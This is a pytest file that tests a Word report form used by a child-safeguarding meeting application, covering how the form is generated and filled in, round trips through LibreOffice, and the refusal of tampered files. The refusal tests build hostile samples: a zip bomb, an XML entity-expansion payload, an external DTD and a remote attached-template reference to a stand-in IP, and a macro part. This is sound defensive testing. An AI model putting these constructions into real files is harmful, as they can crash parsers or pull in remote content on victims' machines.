"""The report form as a Word document: made with the PDF's headings and facts, filled
in as a professional would (python-docx, and Word's stand-in LibreOffice), read back
exactly, and refused plainly when foreign, damaged, tampered or booby-trapped. Every
person named here is invented.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import docx
import pytest

from tac_desktop.core.documents.report_form import (
    SECTION_HEADINGS,
    FormIdentifier,
    letters_note,
)
from tac_desktop.core.documents.report_form_docx import ID_PROPERTY
from tac_desktop.core.models import AttendanceMode
from tac_desktop.core.services import meetings, reports
from tac_desktop.core.services.reports import ReportRefused
from tac_desktop.core.vault import KdfParams, Vault
from tests.conftest import PASSPHRASE
from tests.core.helpers import run_cli
from tests.core.test_reports import _meetings, _recipient

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_libreoffice = pytest.mark.skipif(
    SOFFICE is None and not os.environ.get("CI"),
    reason="LibreOffice is not installed (apt-get install libreoffice-writer-nogui)",
)

ANSWERS = {
    "involvement": "Seen Tomasz four times at clinic.\nLast visit: 3 November.",
    "going_well": "Η Ελένη είπε ότι κοιμάται καλά. Ольга говорит: всё хорошо.",
    "worries_seen": "Zofia źle śpi; Łódź, żółć, gęś. Şule’nin ağabeyi İpek’e ılık süt.",
    "worries_told": "قالت الأم إن الطفل ينام جيدا ٠٧٧٠٠٩٠٠١٠١",
    "worries_opinion": "שלום — 孩子说他在学校很开心 — Ukrainian: Їжак і ґанок.",
    "child_views": "“I like it when Mum reads to me.” 🙂",
    "recommendations": "Keep the weekly clinic visits.",
    "safeguarding": "None beyond the above.",
}
AUTHOR = {
    "Your name": "Dr Σοφία Παπαδοπούλου",
    "Your role and agency": "Consultant, Riverside CAMHS",
    "Phone or secure email": "s.p@camhs.example.nhs.uk",
}


def _word_form(vault: Vault, name: str = "Dr Samuel Osei") -> reports.WordForm:
    _final, draft = _meetings(vault, "TAC-2026-0101")
    return reports.report_form_word(vault, draft, _recipient(vault, draft, name).attendance_id)


def fill_word(form: bytes, answers: Mapping[str, str]) -> bytes:
    """Type answers as a professional would in Word: into the white cell under each
    question (by its printed question), one paragraph per line."""
    from tac_desktop.core.documents.report_form import FIELDS, SHARED_LABEL

    labels = {f.key: f.label for f in FIELDS}
    labels["shared_with_family"] = SHARED_LABEL
    document = docx.Document(io.BytesIO(form))
    by_question = {t.rows[0].cells[0].paragraphs[0].text: t for t in document.tables}
    for key, text in answers.items():
        cell = by_question[labels.get(key, key)].rows[1].cells[0]
        first, *rest = text.split("\n")
        cell.paragraphs[0].text = first
        for line in rest:
            cell.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


FULL = {
    **ANSWERS,
    "shared_with_family": "Yes",
    "shared_on": "10 November 2026",
    **AUTHOR,
}


def _refused(vault: Vault, data: bytes, match: str) -> None:
    before = len(reports.received_reports(vault, _meetings(vault, "TAC-2026-0101")[1]))
    with pytest.raises(ReportRefused, match=match) as caught:
        reports.read_report(vault, data)
    assert "Nothing was imported" in str(caught.value) or "nothing was imported" in str(
        caught.value
    )
    assert len(reports.received_reports(vault, _meetings(vault, "TAC-2026-0101")[1])) == before


def _rezip(
    data: bytes,
    change: Callable[[str, bytes], bytes | None],
    extra: Sequence[tuple[str, bytes]] = (),
) -> bytes:
    """The same .docx with parts changed (``change`` returns new bytes, or None to
    keep them) and ``extra`` (name, bytes) parts added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            body = source.read(info)
            changed = change(info.filename, body)
            target.writestr(info.filename, body if changed is None else changed)
        for name, body in extra:
            target.writestr(name, body)
    return out.getvalue()


# -- the form -------------------------------------------------------------------------


def test_the_word_form_prints_what_the_pdf_prints(demo_vault: Vault, tmp_path: Path) -> None:
    form = _word_form(demo_vault)
    assert form.file_name.endswith(".docx") and "Osei" not in form.file_name
    document = docx.Document(io.BytesIO(form.docx))
    text = "\n".join(p.text for p in document.paragraphs)
    cells = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    pdf = reports.report_form_document(
        demo_vault,
        _meetings(demo_vault, "TAC-2026-0101")[1],
        _recipient(
            demo_vault, _meetings(demo_vault, "TAC-2026-0101")[1], "Dr Samuel Osei"
        ).attendance_id,
    ).pdf
    (tmp_path / "form.pdf").write_bytes(pdf)
    pdf_text = " ".join(
        subprocess.run(
            ["pdftotext", str(tmp_path / "form.pdf"), "-"], capture_output=True, text=True
        ).stdout.split()
    )
    for heading in SECTION_HEADINGS:
        assert heading in text and heading in pdf_text
    for label in [
        "Your involvement since the last meeting",
        "Worries: what you saw or heard yourself",
        "Has this report been shared with the parents and the child?",
        "Phone or secure email",
    ]:
        assert label in cells and label in pdf_text
    for value in ("TAC-2026-0101", "Dr Samuel Osei", "Riverside CAMHS"):
        assert value in cells and value in pdf_text
    assert "Your report for the meeting about" in text
    assert letters_note() not in text and "Some PDF programs" not in text  # Word shows all
    assert document.sections[0].header.paragraphs[0].text == "OFFICIAL-SENSITIVE"
    # The identifier: a property and a hidden line, never printed.
    with zipfile.ZipFile(io.BytesIO(form.docx)) as archive:
        custom = archive.read("docProps/custom.xml").decode()
    assert ID_PROPERTY in custom
    hidden = [r for p in document.paragraphs for r in p.runs if r.font.hidden]
    assert len(hidden) == 1
    identifier = FormIdentifier.parse(hidden[0].text)
    assert identifier is not None and identifier.vault_id == demo_vault.vault_id
    assert identifier.text() in custom


def test_the_word_forms_facts_are_the_pdfs(demo_vault: Vault, tmp_path: Path) -> None:
    """Both forms print the facts of the same content object, in the same order."""
    form = _word_form(demo_vault)
    document = docx.Document(io.BytesIO(form.docx))
    facts = [(r.cells[0].text, r.cells[1].text) for r in document.tables[0].rows]
    assert facts[0] == ("Case", "TAC-2026-0101")
    assert [label for label, _ in facts][-2:] == ["Report from", "Agency"]
    assert len(facts) == len(set(facts)) >= 6
    _final, draft = _meetings(demo_vault, "TAC-2026-0101")
    who = _recipient(demo_vault, draft, "Dr Samuel Osei").attendance_id
    (tmp_path / "form.pdf").write_bytes(reports.report_form_document(demo_vault, draft, who).pdf)
    lines = subprocess.run(
        ["pdftotext", "-layout", str(tmp_path / "form.pdf"), "-"], capture_output=True, text=True
    ).stdout.splitlines()
    printed = [
        next(" ".join(line.split()) for line in lines if line.strip().startswith(label + " "))
        for label, _value in facts
    ]
    assert printed == [f"{label} {value}" for label, value in facts]


# -- round trips ----------------------------------------------------------------------


def test_filled_with_python_docx_comes_back_exact(demo_vault: Vault) -> None:
    _final, draft = _meetings(demo_vault, "TAC-2026-0101")
    filled = fill_word(_word_form(demo_vault).docx, FULL)
    preview = reports.read_report(demo_vault, filled)
    assert preview.meeting_id == draft and preview.name == "Dr Samuel Osei"
    assert {a.key: a.text for a in preview.answers} == ANSWERS
    assert preview.shared == "Yes" and preview.shared_on == "10 November 2026"
    assert preview.author_name == "Dr Σοφία Παπαδοπούλου"
    assert preview.author_contact == "s.p@camhs.example.nhs.uk"
    reports.store_report(demo_vault, preview)
    row = next(
        a for a in meetings.get_meeting(demo_vault, draft).attendees if a.name == "Dr Samuel Osei"
    )
    assert row.mode is AttendanceMode.WRITTEN_REPORT
    for value in ANSWERS.values():
        assert value in row.report_text
    stored = reports.received_reports(demo_vault, draft)
    assert len(stored) == 1 and stored[0].word
    assert reports.received_report_pdf(demo_vault, stored[0].id) == filled
    with pytest.raises(reports.ReportAlreadyReceived):
        reports.store_report(demo_vault, reports.read_report(demo_vault, filled))


def test_an_answer_that_is_not_yes_or_no_is_kept_in_the_note(demo_vault: Vault) -> None:
    filled = fill_word(
        _word_form(demo_vault).docx,
        {"involvement": "Seen twice.", "shared_with_family": "Partly: with the mother only."},
    )
    preview = reports.read_report(demo_vault, filled)
    assert preview.shared == ""
    assert preview.shared_note == "Partly: with the mother only."


def test_text_typed_outside_the_boxes_or_in_a_pasted_table_is_not_lost(
    demo_vault: Vault,
) -> None:
    """A professional types under a box instead of in it, and pastes a small table into
    another box: all of it reaches the preview, with the question it follows."""
    document = docx.Document(io.BytesIO(_word_form(demo_vault).docx))
    tables = {t.rows[0].cells[0].paragraphs[0].text: t for t in document.tables}
    seen = tables["Worries: what you saw or heard yourself"]
    seen.rows[1].cells[0].paragraphs[0].text = "A bruise on 3 November."
    seen._tbl.addnext(docx.Document().add_paragraph("Also a scratch, 5 November.")._p)
    going = tables["What is going well"].rows[1].cells[0]
    going.paragraphs[0].text = "Attendance:"
    pasted = going.add_table(rows=1, cols=2)
    pasted.rows[0].cells[0].text, pasted.rows[0].cells[1].text = "October", "98%"
    out = io.BytesIO()
    document.save(out)
    preview = reports.read_report(demo_vault, out.getvalue())
    answers = {a.key: a.text for a in preview.answers}
    assert answers["worries_seen"] == "A bruise on 3 November.\nAlso a scratch, 5 November."
    assert answers["going_well"].split() == ["Attendance:", "October", "98%"]


@needs_libreoffice
def test_a_form_saved_again_by_libreoffice_comes_back_exact(
    demo_vault: Vault, tmp_path: Path
) -> None:
    """Filled, then opened and saved by LibreOffice (as a professional without Word
    would): the answers and the identifier survive."""
    assert SOFFICE is not None
    filled = tmp_path / "in" / "filled.docx"
    filled.parent.mkdir()
    filled.write_bytes(fill_word(_word_form(demo_vault).docx, FULL))
    out = tmp_path / "out"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "docx", "--outdir", str(out), str(filled)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    saved = (out / "filled.docx").read_bytes()
    assert saved != filled.read_bytes()
    preview = reports.read_report(demo_vault, saved)
    assert {a.key: a.text for a in preview.answers} == ANSWERS
    assert preview.shared == "Yes" and preview.author_name == "Dr Σοφία Παπαδοπούλου"
    # The other way round: the blank form opened and saved by LibreOffice first, then
    # typed in. Both copies of the identifier survive LibreOffice.
    blank = tmp_path / "in" / "blank.docx"
    blank.write_bytes(_word_form(demo_vault).docx)
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "docx", "--outdir", str(out), str(blank)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    with zipfile.ZipFile(out / "blank.docx") as archive:
        assert ID_PROPERTY in archive.read("docProps/custom.xml").decode()
        assert b"TAC-Desktop-report-form/" in archive.read("word/document.xml")
    typed = fill_word((out / "blank.docx").read_bytes(), FULL)
    again = reports.read_report(demo_vault, typed)
    assert {a.key: a.text for a in again.answers} == ANSWERS


# -- refusals -------------------------------------------------------------------------


def test_refuses_a_word_document_that_is_not_our_form(demo_vault: Vault) -> None:
    document = docx.Document()
    document.add_paragraph("My report: all is well.")
    out = io.BytesIO()
    document.save(out)
    _refused(demo_vault, out.getvalue(), "Word document is not a TAC Desktop report form")


def test_refuses_a_word_form_from_another_vault(
    demo_vault: Vault, tmp_path: Path, fast_kdf: KdfParams
) -> None:
    from tac_desktop.core.demo import create_demo_vault

    with create_demo_vault(tmp_path / "other.tacvault", PASSPHRASE, fast_kdf) as other:
        foreign = fill_word(_word_form(other).docx, ANSWERS)
    _refused(demo_vault, foreign, "another TAC Desktop vault")


def _repointed(text: str) -> str:
    return re.sub(r"meeting=\d+", "meeting=1", text)


def test_refuses_a_word_form_changed_to_point_at_another_meeting(demo_vault: Vault) -> None:
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    both = _rezip(
        filled,
        lambda name, body: (
            _repointed(body.decode()).encode()
            if name in ("docProps/custom.xml", "word/document.xml")
            else None
        ),
    )
    _refused(demo_vault, both, "does not match the meeting")
    # Only one copy changed: the two disagree.
    one = _rezip(
        filled,
        lambda name, body: (
            _repointed(body.decode()).encode() if name == "docProps/custom.xml" else None
        ),
    )
    _refused(demo_vault, one, "does not match the meeting")


def test_refuses_a_damaged_or_cut_short_word_form(demo_vault: Vault) -> None:
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    _refused(demo_vault, filled[: len(filled) // 2], "damaged or was not received whole")
    broken = _rezip(filled, lambda name, body: body[:-40] if name == "word/document.xml" else None)
    _refused(demo_vault, broken, "damaged")


def test_refuses_a_password_protected_or_old_word_file(demo_vault: Vault) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000
    _refused(demo_vault, ole, "protected with a password, or is in the old Word format")


def test_refuses_a_zip_bomb_before_unpacking_it(demo_vault: Vault) -> None:
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    # 40 MB of one letter packs into ~40 KB: refused from the central directory.
    bomb = _rezip(
        filled, lambda _n, _b: None, extra=[("word/media/padding.xml", b"a" * 40_000_000)]
    )
    assert len(bomb) < 200_000
    _refused(demo_vault, bomb, "unpack to far more than a report form")
    many = _rezip(filled, lambda _n, _b: None, extra=[(f"x/{n}.xml", b"<a/>") for n in range(500)])
    _refused(demo_vault, many, "made of")


def test_refuses_xml_entity_expansion(demo_vault: Vault) -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE Properties [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
        b']><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'custom-properties">&c;</Properties>'
    )
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    bomb = _rezip(filled, lambda name, body: laughs if name == "docProps/custom.xml" else None)
    _refused(demo_vault, bomb, "document type or entities")
    external = _rezip(
        filled,
        lambda name, body: (
            body.replace(b"?>", b'?><!DOCTYPE w:document SYSTEM "http://198.51.100.7/x.dtd">', 1)
            if name == "word/document.xml"
            else None
        ),
    )
    _refused(demo_vault, external, "document type or entities")


def test_refuses_references_to_files_outside_the_document(demo_vault: Vault) -> None:
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    template = (
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    linked = _rezip(
        filled,
        lambda name, body: (
            body.replace(b"</Relationships>", template)
            if name == "word/_rels/document.xml.rels"
            else None
        ),
    )
    _refused(demo_vault, linked, "points to files outside itself")
    # A web address typed as a link is only text to us: still imported.
    link = template.replace(b"attachedTemplate", b"hyperlink")
    typed = _rezip(
        filled,
        lambda name, body: (
            body.replace(b"</Relationships>", link)
            if name == "word/_rels/document.xml.rels"
            else None
        ),
    )
    assert reports.read_report(demo_vault, typed).answers


def test_refuses_macros(demo_vault: Vault, tmp_path: Path) -> None:
    filled = fill_word(_word_form(demo_vault).docx, ANSWERS)
    macro_type = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    docm = _rezip(
        filled,
        lambda name, body: (
            re.sub(
                rb'(PartName="/word/document.xml" ContentType=")[^"]+', rb"\1" + macro_type, body
            )
            if name == "[Content_Types].xml"
            else None
        ),
        extra=[("word/vbaProject.bin", b"\0" * 64)],
    )
    _refused(demo_vault, docm, "contains macros")
    path = tmp_path / "report.docm"
    path.write_bytes(filled)
    with pytest.raises(ReportRefused, match="with macros"):
        reports.read_report_file(demo_vault, path)


def test_refuses_a_blank_word_form(demo_vault: Vault) -> None:
    _refused(demo_vault, _word_form(demo_vault).docx, "none of the report's boxes filled")


# -- the command line -----------------------------------------------------------------


def test_cli_writes_a_word_form_when_the_file_name_says_docx(
    tmp_path: Path, fast_kdf: KdfParams
) -> None:
    from tac_desktop.core.demo import create_demo_vault

    path = tmp_path / "demo.tacvault"
    with create_demo_vault(path, PASSPHRASE, fast_kdf) as made:
        _final, draft = _meetings(made, "TAC-2026-0101")
    form = tmp_path / "FORM.docx"
    args = ("export", "report-form", path, "TAC-2026-0101", draft)
    made_form = run_cli(*args, "--professional", "Dr Samuel Osei", "-o", form)
    assert made_form.returncode == 0, made_form.stderr
    assert zipfile.is_zipfile(form) and oct(form.stat().st_mode)[-3:] == "600"
    locked = run_cli(
        *args, "--professional", "Dr Samuel Osei", "-o", tmp_path / "x.docx", "--password"
    )
    assert locked.returncode == 1 and "cannot be locked" in locked.stderr
    filled = tmp_path / "returned.docx"
    filled.write_bytes(fill_word(form.read_bytes(), ANSWERS))
    done = run_cli("import", "report", path, filled, "--yes")
    assert done.returncode == 0, done.stderr
    assert "Imported the report from Dr Samuel Osei" in done.stdout
    docm = tmp_path / "returned.docm"
    docm.write_bytes(filled.read_bytes())
    refused = run_cli("import", "report", path, docm, "--yes")
    assert refused.returncode == 1 and "macros" in refused.stderr
    assert "Traceback" not in refused.stderr
    with Vault.open(path, PASSPHRASE) as opened:
        stored = reports.received_reports(opened, draft)
        assert len(stored) == 1 and stored[0].answers["worries_told"] == ANSWERS["worries_told"]


def test_a_chair_name_longer_than_word_keeps_does_not_stop_the_form(demo_vault: Vault) -> None:
    """Word's document properties hold 255 characters; a longer chair or reference (should
    the program's own caps ever be raised) is cut there, never an error."""
    import dataclasses

    from tac_desktop.core.documents.report_form_docx import render_report_form_docx
    from tac_desktop.core.services.reports import _form_content

    _final, draft = _meetings(demo_vault, "TAC-2026-0101")
    content = _form_content(
        demo_vault, draft, _recipient(demo_vault, draft, "Dr Samuel Osei").attendance_id
    )
    long_chair = "Jordan Ellery-" + "Ωmega " * 60
    docx = render_report_form_docx(dataclasses.replace(content, chair=long_chair))
    from docx import Document as open_document

    properties = open_document(io.BytesIO(docx)).core_properties
    assert properties.author == long_chair[:255]
    filled = fill_word(docx, FULL)
    assert {a.key: a.text for a in reports.read_report(demo_vault, filled).answers} == ANSWERS
